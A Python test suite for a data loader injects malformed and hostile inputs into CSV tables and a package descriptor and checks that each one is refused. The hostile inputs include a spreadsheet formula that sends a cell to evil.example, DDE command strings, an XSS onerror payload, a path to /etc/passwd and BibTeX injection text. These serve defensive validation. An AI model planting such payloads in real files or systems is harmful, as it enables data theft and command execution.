"""Fault injection: every class of bad input, in every table it applies to, stops the
loader with a message naming the file, the row, the column, the value and what was expected,
and frictionless (with the book's checks) rejects it too: one definition of valid.

Two sets of cases: each class of fault in every table it applies to, and the inputs of the
edition-1.0 red-team report (look-alike digits, numbers Python reads too generously, invisible
bytes, formula-like text, broken descriptors, ...)."""
from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import frictionless
import pytest

from fourpillars import DataError, load
from fourpillars.data import DATA_DIR, PARTIAL_DATE, read_package
from fourpillars.validate import MEANING, checklist

RESOURCES = read_package()["resources"]


def _fields(res):
    return res["schema"]["fields"]


def _first(res, test):
    return next((f["name"] for f in _fields(res) if test(f)), None)


def _cases():
    """(resource, fault, column) for every fault that applies to a resource."""
    for res in RESOURCES:
        n = res["name"]
        yield n, "missing file", None
        yield n, "empty file", None
        yield n, "non-UTF-8 bytes", None
        yield n, "malformed CSV", None
        yield n, "missing column", _fields(res)[-1]["name"]
        yield n, "extra column", "extra"
        yield n, "duplicate primary key", res["schema"]["primaryKey"]
        if col := _first(res, lambda f: f["type"] in ("number", "integer")):
            yield n, "wrong type", col
        if col := _first(res, lambda f: f.get("constraints", {}).get("pattern") == PARTIAL_DATE):
            yield n, "bad date", col
        if col := _first(res, lambda f: "enum" in f.get("constraints", {})):
            yield n, "value outside enum", col
        for fk in res["schema"].get("foreignKeys", []):
            kind = "unknown source key" if fk["reference"]["resource"] == "sources" else "foreign key to a missing row"
            yield n, kind, fk["fields"]
        if {"claim", "contested"} <= {f["name"] for f in _fields(res)}:
            yield n, "contested row with a single source", "contested"


CASES = list(_cases())


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def _write(path: Path, rows: list[list[str]]) -> None:
    out = io.StringIO()
    # The csv module leaves a lone carriage return unquoted under a "\n" line end; quote all then.
    quoting = csv.QUOTE_ALL if any("\r" in c for r in rows for c in r) else csv.QUOTE_MINIMAL
    csv.writer(out, lineterminator="\n", quoting=quoting).writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def inject(data: Path, name: str, fault: str, column: str | None) -> None:
    res = next(r for r in RESOURCES if r["name"] == name)
    path = data / res["path"]
    rows = _rows(path)
    header = rows[0]
    col = header.index(column) if column in header else None
    if fault == "missing file":
        path.unlink()
    elif fault == "empty file":
        path.write_text("", encoding="utf-8")
    elif fault == "non-UTF-8 bytes":
        raw = path.read_bytes().split(b"\n")
        raw[1] = raw[1] + b"\xff"
        path.write_bytes(b"\n".join(raw))
    elif fault == "malformed CSV":
        text = path.read_text(encoding="utf-8").split("\n")
        text[1] = text[1] + ',"unclosed'
        path.write_text("\n".join(text) + "\n" + "x" * 10, encoding="utf-8")
    elif fault == "missing column":
        _write(path, [r[:-1] for r in rows])
    elif fault == "extra column":
        _write(path, [r + (["extra"] if i == 0 else ["1"]) for i, r in enumerate(rows)])
    elif fault == "duplicate primary key":
        _write(path, rows + [rows[1]])
    else:
        value = {"wrong type": "abc", "bad date": "2024-13-01", "value outside enum": "not-a-choice",
                 "unknown source key": "no-such-source", "foreign key to a missing row": "no-such-row",
                 "contested row with a single source": "true"}[fault]
        rows[1][col] = value
        if fault == "contested row with a single source":
            rows[1][header.index("claim")] = "a-claim-nobody-else-makes"
        _write(path, rows)


EXPECTED = {
    "missing file": "file not found",
    "empty file": "file is empty",
    "non-UTF-8 bytes": "not valid UTF-8",
    "malformed CSV": "expected",
    "missing column": "missing column",
    "extra column": "unknown column not in the schema",
    "duplicate primary key": "duplicate primary key",
    "wrong type": "expected a",
    "bad date": "not a real calendar date",
    "value outside enum": "expected one of",
    "unknown source key": "unknown source key 'no-such-source'",
    "foreign key to a missing row": "unknown key 'no-such-row'",
    "contested row with a single source": "has a single source",
}


def frictionless_rejects(data: Path, name: str) -> None:
    """frictionless itself, with the book's checks, on the copy: the table must be invalid."""
    try:
        report = frictionless.validate(str(data / "datapackage.json"), name=name, checklist=checklist())
    except frictionless.FrictionlessException:
        return  # refused outright (an unreadable descriptor)
    assert not report.valid, f"frictionless accepts what the loader refuses in {name}"


@pytest.mark.parametrize("name,fault,column", CASES, ids=[f"{n}-{f}" for n, f, _ in CASES])
def test_bad_input_fails_with_a_precise_message(tmp_path, name, fault, column):
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    inject(data, name, fault, column)
    res = next(r for r in RESOURCES if r["name"] == name)
    with pytest.raises(DataError) as err:
        load(name, data)
    if fault != "missing file":  # frictionless cannot be asked about a file that is not there
        frictionless_rejects(data, name)
    message = str(err.value)
    assert res["path"] in message, message                       # the file
    assert EXPECTED[fault] in message, message                   # what is wrong / expected
    assert "expected" in message, message                        # always says what was expected
    if fault == "duplicate primary key":
        n = len(load(name)) + 1
        assert f"row {n} (line {n + 1})" in message and "first used in row 1" in message, message
    elif fault not in ("missing file", "empty file", "missing column", "extra column"):
        assert "row 1 (line 2)" in message, message              # the row, and its line in the file
    if column and fault not in ("missing column", "duplicate primary key"):
        assert f"column '{column}'" in message, message          # the column
    if fault == "missing column":
        assert f"'{column}'" in message, message


def test_a_good_copy_loads(tmp_path):
    """Control: the copy itself is fine, so each failure above is the injected fault's."""
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    for res in RESOURCES:
        assert len(load(res["name"], data)) > 0


# --- The red-team inputs ---------------------------------------------------------------

def cell(column: str, value: str, row: int = 1):
    def mutate(data: Path, name: str) -> None:
        path = data / f"{name}.csv"
        rows = _rows(path)
        rows[row][rows[0].index(column)] = value
        _write(path, rows)
    return mutate


def text(change):
    def mutate(data: Path, name: str) -> None:
        path = data / f"{name}.csv"
        path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
    return mutate


def schema(change):
    def mutate(data: Path, name: str) -> None:
        path = data / "datapackage.json"
        package = json.loads(path.read_text(encoding="utf-8"))
        change(next(r for r in package["resources"] if r["name"] == name), data)
        path.write_text(json.dumps(package, indent=1), encoding="utf-8")
    return mutate


def delimited(sep: str):
    def change(text: str) -> str:
        out = io.StringIO()
        csv.writer(out, delimiter=sep, lineterminator="\n").writerows(csv.reader(io.StringIO(text, newline="")))
        return out.getvalue()
    return text(change)


def move_outside(res: dict, data: Path) -> None:
    (data / res["path"]).rename(data.parent / "outside.csv")
    res["path"] = "../outside.csv"


def fk(**change):
    def edit(res: dict, data: Path) -> None:
        key = res["schema"]["foreignKeys"][0]
        key.update(change.get("key", {}))
        key["reference"].update(change.get("reference", {}))
    return edit


def field_type(column: str, kind: str):
    def edit(res: dict, data: Path) -> None:
        next(f for f in res["schema"]["fields"] if f["name"] == column)["type"] = kind
    return edit


MB = "x" * 1_000_000
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0", "\tstarts with a tab", "\rstarts with a carriage return"]
# (case, table, mutation, column the message must name (None: a file- or schema-level fault), value it must quote)
RED_TEAM = [
    ("full-width digits in a date", "arms", cell("date", "２０１７-10"), "date", "２０１７-10"),
    ("Arabic-Indic digits in a number", "economy", cell("value", "١٢"), "value", "١٢"),
    ("full-width digits in an integer", "economy", cell("year", "２０２４"), "year", "２０２４"),
    ("exponent", "economy", cell("value", "1e3"), "value", "1e3"),
    ("leading spaces in a number", "economy", cell("value", "  12"), "value", "  12"),
    ("trailing space in a number", "economy", cell("value", "12 "), "value", "12 "),
    ("underscore in a number", "economy", cell("value", "1_000"), "value", "1_000"),
    ("leading zero in an integer", "economy", cell("year", "02024"), "year", "02024"),
    ("leading space in an integer", "economy", cell("year", " 2024"), "year", " 2024"),
    ("plus sign in an integer", "economy", cell("year", "+2024"), "year", "+2024"),
    ("NaN", "economy", cell("value", "NaN"), "value", "NaN"),
    ("infinity", "economy", cell("value", "inf"), "value", "inf"),
    ("overflowing number", "economy", cell("value", "1e400"), "value", "1e400"),
    ("capitalised boolean", "economy", cell("contested", "True"), "contested", "True"),
    ("30 February", "arms", cell("date", "2024-02-30"), "date", "2024-02-30"),
    ("month 13", "arms", cell("date", "2024-13"), "date", "2024-13"),
    ("month 00", "arms", cell("date", "2024-00"), "date", "2024-00"),
    ("year 0000", "arms", cell("date", "0000"), "date", "0000"),
    ("whitespace-only required text", "sources", cell("title", "   "), "title", "   "),
    ("surrounding whitespace in text", "sources", cell("publisher", " CGTN "), "publisher", " CGTN "),
    ("whitespace around an enum value", "economy", cell("partner", " China"), "partner", " China"),
    ("NUL byte", "sources", cell("note", "a\x00b"), "note", "a\x00b"),
    ("line break in text", "sources", cell("title", "first line\nsecond line"), "title", "first line\nsecond line"),
    ("1 MB text cell", "sources", cell("note", MB), "note", MB),
    ("1 MB number cell", "economy", cell("value", "1" * 1_000_000), "value", "1" * 1_000_000),
    ("1 MB id", "sources", cell("id", "a" * 1_000_000), "id", "a" * 1_000_000),
    ("} in a URL", "sources", cell("url", "https://news.cgtn.com/x}"), "url", "https://news.cgtn.com/x}"),
    ("} in an author", "sources", cell("author", "Bugajski, Janusz}, title = {Injected title"), "author",
     "Bugajski, Janusz}, title = {Injected title"),
    ("backslash in a title", "sources", cell("title", "A \\emph{title}"), "title", "A \\emph{title}"),
    *[(f"formula-like text {i + 1}", "economy", cell("basis", f), "basis", f) for i, f in enumerate(FORMULAS)],
    ("UTF-8 byte order mark", "economy", text(lambda t: "\ufeff" + t), None, None),
    ("';' delimiter", "economy", delimited(";"), None, None),
    ("tab delimiter", "economy", delimited("\t"), None, None),
    ("duplicate header", "economy", text(lambda t: t.replace(",note\n", ",basis\n", 1)), None, None),
    ("trailing blank line", "economy", text(lambda t: t + "\n"), None, None),
    ("foreign key to a missing field", "economy", schema(fk(reference={"fields": "key"})), None, None),
    ("foreign key from a missing field", "economy", schema(fk(key={"fields": "nosuchcol"})), None, None),
    ("foreign key to a missing table", "economy", schema(fk(reference={"resource": "nosuch"})), None, None),
    ("unknown type on an all-empty column", "arms_transfers",
     schema(field_type("claim", '<img src=x onerror="window.__xss_type=1">')), None, None),
    ("resource outside data/", "kfor", schema(move_outside), None, None),
    ("absolute resource path", "kfor", schema(lambda res, data: res.update(path="/etc/passwd")), None, None),
]


@pytest.mark.parametrize("case,name,mutate,column,value", RED_TEAM, ids=[c[0] for c in RED_TEAM])
def test_red_team_input_is_refused_by_loader_and_frictionless(tmp_path, case, name, mutate, column, value):
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    mutate(data, name)
    with pytest.raises(DataError) as err:
        load(name, data)
    frictionless_rejects(data, name)
    message = str(err.value)
    assert "expected" in message, message
    if column is None:  # a file- or schema-level fault: the file or the descriptor, and the table
        assert f"{name}.csv" in message or "datapackage.json" in message, message
        return
    assert f"data/{name}.csv, row 1 (line 2), column '{column}'" in message, message[:300]
    shown = value.encode("unicode_escape").decode("ascii") if not value.isprintable() else value
    assert shown[:40] in message, f"the message does not quote the value: {message[:300]}"


def test_text_that_only_looks_like_a_negative_number_and_negative_numbers_load(tmp_path):
    """Control for the formula rule: '-' followed by a digit is text a spreadsheet reads as a
    number, not a formula, and numbers stay numbers."""
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    cell("basis", "-5 percent on the previous year")(data, "economy")
    cell("value", "-5.5", row=2)(data, "economy")
    rows = load("economy", data)
    assert rows.loc[0, "basis"] == "-5 percent on the previous year" and rows.loc[1, "value"] == -5.5


def test_every_pattern_in_the_package_is_explained():
    """The loader's messages say in words what a pattern asks for."""
    patterns = {f["constraints"]["pattern"] for r in RESOURCES for f in r["schema"]["fields"]
                if "pattern" in f.get("constraints", {})}
    assert patterns <= set(MEANING), f"patterns with no explanation in fourpillars/validate.py: {patterns - set(MEANING)}"


def test_the_loader_ignores_a_raised_csv_field_limit(tmp_path):
    """frictionless raises the csv module's field size limit for the whole process; the loader
    must answer the same with the limit low (a fresh process) or high."""
    import sys
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    cell("note", MB)(data, "sources")
    answers = []
    for limit in (131072, sys.maxsize):
        old = csv.field_size_limit(limit)
        try:
            with pytest.raises(DataError) as err:
                load("sources", data)
            answers.append(str(err.value))
        finally:
            csv.field_size_limit(old)
    assert answers[0] == answers[1] and "at most 2000 characters" in answers[0], answers


def test_the_cache_sees_a_change_to_a_table_a_foreign_key_points_into(tmp_path):
    """Deleting the source a row cites must make the next load fail, in the same process."""
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    economy = load("economy", data)
    cited = economy.loc[0, "source_id"]
    path = data / "sources.csv"
    _write(path, [r for r in _rows(path) if r[0] != cited])
    with pytest.raises(DataError, match=f"unknown source key '{cited}'"):
        load("economy", data)
